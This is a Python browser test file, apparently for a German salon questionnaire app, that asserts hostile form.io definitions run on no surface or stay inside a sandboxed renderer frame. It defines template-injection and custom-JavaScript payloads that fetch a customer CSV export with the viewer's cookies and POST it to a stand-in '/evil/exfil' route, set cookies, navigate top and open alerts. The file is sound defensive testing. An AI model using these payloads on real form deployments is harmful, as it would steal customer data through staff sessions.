"""A hostile questionnaire in real headless Chromium, on every surface that renders questionnaires.

The definition carries template code (``{{ }}`` / ``{% %}``) in its tooltip, content ``html``,
htmlelement ``content``, label, description, placeholder and option labels — what @formio/js 5.6.0
evaluates with ``new Function`` — that would call ``alert()``, navigate ``top``, ``fetch`` the customer
CSV export with the viewer's cookies and send it away, and write ``document.cookie``. It is stored
straight into the database (as an old version would be, around the lint), and the lint path is tried too.

On each surface — staff fill-in, the owner's preview, the builder, the tablet, the portal and the
dialog link — nothing of it may happen: no dialog, no navigation to the payload's target, no request
the payload made (recorded on the server *and* by Playwright), no changed cookie.
"""

from __future__ import annotations

import json
import re
import threading

import mongoengine
import pytest
from flask import Blueprint, request
from werkzeug.serving import make_server

from tests.browser.support import (
    CHROMIUM,
    CHROMIUM_ARGS,
    CSP_WATCH,
    form_frame,
    renderer_frame,
    require_chromium,
    staff_login,
)
from tests.conftest import DEFAULT_PASSWORD, make_app

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser")]

EXPORT = "/admin/customer/export/csv/"
STEAL = ("fetch('" + EXPORT + "', {credentials: 'include'}).then(function (r) { return r.text(); })"
         ".then(function (t) { fetch('/evil/exfil', {method: 'POST', body: t}); })")
HOSTILE = {"display": "form", "components": [
    {"type": "textfield", "key": "name", "input": True,
     "label": "Name {{ " + STEAL + " }}",
     "description": "{{ top.location = '/evil/navigated' }}",
     "tooltip": "{{ alert('tooltip') }}",
     "placeholder": "{{ fetch('/evil/placeholder?c=' + document.cookie) }}"},
    {"type": "content", "key": "intro", "input": False,
     "html": "<p>Willkommen {{ fetch('/evil/content', {credentials: 'include'}) }} {{ " + STEAL + " }}</p>"},
    {"type": "htmlelement", "key": "note", "tag": "p", "input": False,
     "content": "Hinweis {{ document.cookie = 'pwned=1; path=/' }}"},
    {"type": "textfield", "key": "later", "label": "Später", "input": True,
     "tooltip": "{{ setTimeout(function () { top.location = '/evil/navigated'; }, 800) }}"},
    {"type": "radio", "key": "choice", "label": "Wahl", "input": True,
     "values": [{"label": "Ja {% alert('option') %}", "value": "ja"}, {"label": "Nein", "value": "nein"}]},
    {"type": "button", "key": "submit", "action": "submit", "label": "Senden", "input": True},
]}
REFUSED = "kann derzeit nicht angezeigt werden"


@pytest.fixture
def live(tmp_path):
    require_chromium()
    app = make_app(tmp_path, SERVER_NAME=None, PORTAL_CODE_MIN_RESPONSE_SECONDS=0.0)
    hits: list[str] = []
    evil = Blueprint("evil", __name__)

    @evil.route("/evil/<path:what>", methods=["GET", "POST"])
    def record(what):
        hits.append(f"{request.method} /evil/{what}")
        return "ok"

    app.register_blueprint(evil)

    @app.before_request
    def watch_export():
        if request.path.startswith(EXPORT):
            hits.append(f"{request.method} {request.path}")

    from core.models import BusinessUnit, Customer, Questionnaire, QuestionnaireVersion, StaffUser
    from core.passwords import hash_password
    from core.services import dialogs, portal
    from core.services import questionnaires as qs
    from core.services.audit import Actor

    with app.app_context():
        unit = BusinessUnit(name="Salon", slug="salon", features=["kiosk", "portal"]).save()
        StaffUser(email="inhaberin@example.com", name="Inhaberin", role="owner", business_unit=unit,
                  password_hash=hash_password(DEFAULT_PASSWORD)).save()
        customer = Customer(business_unit=unit, first_name="Käthe", last_name="Kühn", email="kaethe@example.com",
                            portal_enabled=True).save()
        # an old version, stored around the lint (never flagged: the rule itself must catch it)
        q = Questionnaire(business_unit=unit, name="Alt", kind="custom", draft=HOSTILE, latest_version=1).save()
        version = QuestionnaireVersion(questionnaire=q, business_unit=unit, number=1, name="Alt", kind="custom",
                                       schema=HOSTILE, sha256=qs.sha256(HOSTILE), renderer_version="5.6.0").save()
        clean = qs.create(Actor.system(), unit, name="Neu", kind="custom",
                          definition={"components": [{"type": "textfield", "key": "a", "label": "A"}]})
        # requested and sent before the rule existed (starting either now is refused: test_questionnaire_code.py)
        real_check, qs.ensure_renderable = qs.ensure_renderable, lambda version: None
        try:
            task = portal.request_questionnaire(Actor.system(), customer, version)
            dialog = dialogs.start(Actor.system(), customer, version, invite=False)
        finally:
            qs.ensure_renderable = real_check
        ids = {"customer": str(customer.pk), "version": str(version.pk), "q": str(q.pk), "clean": str(clean.pk),
               "task": str(task.pk), "unit": str(unit.pk),
               "dialog": dialogs.LINK_PATH.format(id=dialog.pk, token=dialogs.link_token(dialog))}
    server = make_server("127.0.0.1", 0, app, threaded=True)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield app, f"http://127.0.0.1:{server.server_port}", ids, hits
    server.shutdown()
    thread.join(5)
    mongoengine.disconnect()


class Witness:
    """What one browser context saw: dialogs, requests the payload made, navigations, cookies."""

    def __init__(self, context, page, base):
        self.base = base
        self.context = context
        self.page = page
        self.events: list[str] = []
        page.on("dialog", lambda d: (self.events.append(f"dialog {d.message}"), d.dismiss()))
        context.on("request", self._request)
        page.on("framenavigated", lambda f: self.events.append(f"navigated {f.url}")
                if re.search(r"/evil/|^(?!" + re.escape(base) + r"|about:|data:)", f.url) else None)
        self.cookies = self._cookies()

    def _request(self, r):
        if "/evil/" in r.url or EXPORT in r.url or not r.url.startswith((self.base, "data:", "blob:")):
            self.events.append(f"request {r.method} {r.url}")

    def _cookies(self):
        return sorted((c["name"], c["value"], c["path"]) for c in self.context.cookies())

    def check(self, surface, hits):
        self.page.wait_for_timeout(1500)  # time for any payload to fire
        assert self.page.url.startswith(self.base) and "/evil/" not in self.page.url, (surface, self.page.url)
        cookies = self._cookies()
        assert not [c for c in cookies if c[0] == "pwned"], (surface, cookies)
        assert self.events == [], (surface, self.events)
        assert hits == [], (surface, hits)
        self.cookies = cookies


def _new(browser, base, **kw):
    context = browser.new_context(locale="de-DE", **kw)
    context.add_init_script(CSP_WATCH)
    page = context.new_page()
    return context, page, Witness(context, page, base)


def test_hostile_definition_runs_on_no_surface(live):
    from playwright.sync_api import expect, sync_playwright

    app, base, ids, hits = live
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)

        # --- staff: fill-in, the owner's preview, the builder, and the lint path ------------------------
        context, page, witness = _new(browser, base)
        staff_login(page, base)
        witness.cookies = witness._cookies()
        page.goto(f"{base}/admin/customer/fill/?id={ids['customer']}&version={ids['version']}")
        witness.check("staff fill-in", hits)
        expect(page.locator("body")).to_contain_text(REFUSED)

        page.goto(f"{base}/admin/questionnaire/preview/?id={ids['q']}")
        witness.check("owner's preview", hits)
        expect(page.locator("body")).to_contain_text(REFUSED)

        page.goto(f"{base}/admin/questionnaire/builder/?id={ids['q']}")
        witness.check("builder", hits)
        expect(page.locator("[data-testid=unsafe-draft]")).to_contain_text("components[0].label")

        # the lint path: the hostile JSON saved from the builder page of a clean questionnaire
        page.goto(f"{base}/admin/questionnaire/builder/?id={ids['clean']}")
        page.wait_for_selector("[data-frontdesk-builder][data-frontdesk-ready=true]", timeout=20000)
        page.evaluate("(json) => { document.getElementById('fd-definition').value = json; "
                      "document.getElementById('fd-save-form').submit(); }", json.dumps(HOSTILE))
        page.wait_for_load_state("load")
        expect(page.locator(".alert-error, .alert-danger").first).to_contain_text("Vorlagen-Code")
        witness.check("builder save", hits)
        with app.app_context():
            from core.models import Questionnaire

            assert "{{" not in json.dumps(Questionnaire.objects.get(pk=ids["clean"]).draft)

        # --- the tablet --------------------------------------------------------------------------------
        from core.models import Customer, Device, QuestionnaireVersion
        from core.services import kiosk
        from core.services.audit import Actor

        with app.app_context():
            from core.models import BusinessUnit

            _device, code = kiosk.create_device(Actor.system(), BusinessUnit.objects.get(pk=ids["unit"]), "Tablet")
        t_context, tablet, t_witness = _new(browser, base, viewport={"width": 1024, "height": 1366})
        tablet.goto(base + "/kiosk/display")
        tablet.fill("#code", code)
        tablet.click("[data-testid=kiosk-pair-submit]")
        expect(tablet.locator("[data-testid=kiosk-idle]")).to_be_visible()
        t_witness.cookies = t_witness._cookies()
        with app.app_context():
            from core.errors import Conflict
            from core.models import KioskRun
            from core.models._base import utcnow

            device, customer = Device.objects.get(), Customer.objects.get()
            version = QuestionnaireVersion.objects.get(pk=ids["version"])
            with pytest.raises(Conflict):  # staff can no longer start it ...
                kiosk.start_run(Actor.system(), device=device, customer=customer, version=version)
            # ... but a run started before the rule existed is still waiting for the tablet
            KioskRun(business_unit=device.business_unit, device=device, customer=customer,
                     questionnaire=version.questionnaire, version=version, status="waiting", active=True,
                     prefill={}, started_by="Inhaberin", created_at=utcnow(), last_activity_at=utcnow()).save()
        tablet.wait_for_url("**/kiosk/run/**", timeout=15000)
        t_witness.check("tablet", hits)
        expect(tablet.locator("body")).to_contain_text(REFUSED)

        # --- the portal --------------------------------------------------------------------------------
        p_context, portal_page, p_witness = _new(browser, base)
        portal_page.goto(base + "/portal/salon/login")
        portal_page.fill("#email", "kaethe@example.com")
        portal_page.click("[data-testid=request-code]")
        expect(portal_page.locator("[data-testid=code-sent]")).to_be_visible()
        with app.app_context():
            from core.models import OutboxMessage

            body = OutboxMessage.objects.get(to="kaethe@example.com").body
        portal_page.fill("#code", re.search(r"\b(\d{6})\b", body).group(1))
        portal_page.click("[data-testid=verify-code]")
        portal_page.wait_for_url(base + "/portal/")
        p_witness.cookies = p_witness._cookies()
        portal_page.goto(f"{base}/portal/tasks/{ids['task']}")
        p_witness.check("portal", hits)
        expect(portal_page.locator("body")).to_contain_text(REFUSED)

        # --- the dialog link ---------------------------------------------------------------------------
        d_context, dialog_page, d_witness = _new(browser, base)
        dialog_page.goto(base + ids["dialog"])
        d_witness.check("dialog link", hits)
        expect(dialog_page.locator("body")).to_contain_text(REFUSED)

        for ctx in (context, t_context, p_context, d_context):
            ctx.close()
        browser.close()


def test_the_isolated_renderer_contains_a_hostile_definition(live, monkeypatch):
    """Defence in depth: with the server's refusal switched off, the same definition is drawn — inside
    the sandboxed renderer frame (forms and builder), where none of its code reaches the page, the
    cookies or the server. Fails when the frame gets allow-same-origin/allow-modals/allow-top-navigation."""
    from playwright.sync_api import expect, sync_playwright

    from core.services import questionnaires as qs

    monkeypatch.setattr(qs, "unsafe_reason", lambda version: None)
    monkeypatch.setattr(qs, "draft_problem", lambda q: None)
    _app, base, ids, hits = live
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        context, page, witness = _new(browser, base)
        staff_login(page, base)
        witness.cookies = witness._cookies()
        for surface, url, frames in (
            ("staff fill-in", f"/admin/customer/fill/?id={ids['customer']}&version={ids['version']}", 1),
            ("owner's preview", f"/admin/questionnaire/preview/?id={ids['q']}", 2),
        ):
            response = page.goto(base + url)
            assert "'unsafe-eval'" not in response.headers["content-security-policy"]
            expect(page.locator("[data-frontdesk-form][data-frontdesk-ready=true]")).to_have_count(frames)
            for i in range(frames):  # the hostile texts are there, inert
                expect(form_frame(page, i).locator(".formio-component-intro")).to_contain_text("Willkommen")
            witness.check(surface, hits)
            # what the payloads tried is visible only as the frame's own CSP refusals
            assert any("connect-src" in v for v in renderer_frame(page).evaluate("() => window.__cspViolations"))

        # the builder, given the hostile draft: drawn in its sandboxed frame, inert
        response = page.goto(f"{base}/admin/questionnaire/builder/?id={ids['q']}")
        assert "'unsafe-eval'" not in response.headers["content-security-policy"]
        expect(page.locator("[data-frontdesk-builder][data-frontdesk-ready=true]")).to_have_count(1)
        expect(form_frame(page).locator(".formio-component-intro").first).to_contain_text("Willkommen")
        witness.check("builder", hits)

        d_context, dialog_page, d_witness = _new(browser, base)
        dialog_page.goto(base + ids["dialog"])
        expect(dialog_page.locator("[data-frontdesk-form][data-frontdesk-ready=true]")).to_have_count(1)
        d_witness.check("dialog link", hits)
        for ctx in (context, d_context):
            ctx.close()
        browser.close()


ESCAPE = ("try { " + STEAL + "; } catch (e) {} try { document.cookie = 'pwned=1; path=/'; } catch (e) {} "
          "try { top.location = '/evil/navigated'; } catch (e) {} try { alert('js'); } catch (e) {} ")
WITH_JS = {"display": "form", "components": [
    {"type": "checkbox", "key": "more", "label": "Mehr angeben", "input": True},
    {"type": "textfield", "key": "detail", "label": "Details", "input": True,
     "customConditional": ESCAPE + "show = data.more === true;"},
    {"type": "textfield", "key": "code", "label": "Code", "input": True,
     "validate": {"custom": ESCAPE + "valid = input === 'ok' ? true : 'Bitte ok eingeben';"}},
    {"type": "button", "key": "submit", "action": "submit", "label": "Senden", "input": True},
]}


def test_definition_javascript_runs_only_inside_the_isolated_renderer(live, tmp_path):
    """A published questionnaire whose JavaScript (which the engine compiles, so it may be published)
    also tries to reach the viewer: in the browser it runs in the sandboxed frame, where the conditions
    and checks work and none of the escape attempts reaches the page, its cookies or the server."""
    from playwright.sync_api import expect, sync_playwright

    from core.models import BusinessUnit, Customer
    from core.services import questionnaires as qs
    from core.services.audit import Actor

    app, base, ids, hits = live
    with app.app_context():
        q = qs.create(Actor.system(), BusinessUnit.objects.get(pk=ids["unit"]), name="Mit JavaScript",
                      kind="custom", definition=WITH_JS)
        version = qs.publish(Actor.system(), q)
        customer = Customer.objects.get()
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        context, page, witness = _new(browser, base)
        staff_login(page, base)
        witness.cookies = witness._cookies()
        response = page.goto(f"{base}/admin/customer/fill/?id={customer.pk}&version={version.pk}")
        assert "'unsafe-eval'" not in response.headers["content-security-policy"]
        expect(page.locator("[data-frontdesk-form][data-frontdesk-ready=true]")).to_have_count(1)
        frame = form_frame(page)
        expect(frame.locator(".formio-component-detail")).to_be_hidden()
        frame.locator(".formio-component-more input[type=checkbox]").check()
        expect(frame.locator(".formio-component-detail")).to_be_visible()  # customConditional ran in the frame
        frame.locator(".formio-component-code input").fill("falsch")
        frame.locator(".formio-component-detail input").click()
        expect(frame.locator(".formio-component-code")).to_contain_text("Bitte ok eingeben")
        page.screenshot(path=str(tmp_path / "js-in-frame.png"), full_page=True)
        witness.check("staff fill-in with JavaScript", hits)
        assert any("connect-src" in v for v in renderer_frame(page).evaluate("() => window.__cspViolations"))
        # the designer's builder: drawn in its frame, with the list of the form's JavaScript below it
        page.goto(f"{base}/admin/questionnaire/builder/?id={q.pk}")
        expect(page.locator("[data-frontdesk-builder][data-frontdesk-ready=true]")).to_have_count(1)
        rows = page.locator("[data-testid=scripts] [data-testid=script]")
        expect(rows).to_have_count(2)
        expect(rows.nth(0)).to_contain_text("Eigene Bedingung (anzeigen)")
        expect(rows.nth(1)).to_contain_text("Eigene Prüfung")
        expect(rows.nth(1)).to_contain_text("Bitte ok eingeben")
        page.locator("[data-testid=scripts]").screenshot(path=str(tmp_path / "builder-scripts.png"))
        witness.check("builder with JavaScript", hits)
        context.close()
        browser.close()
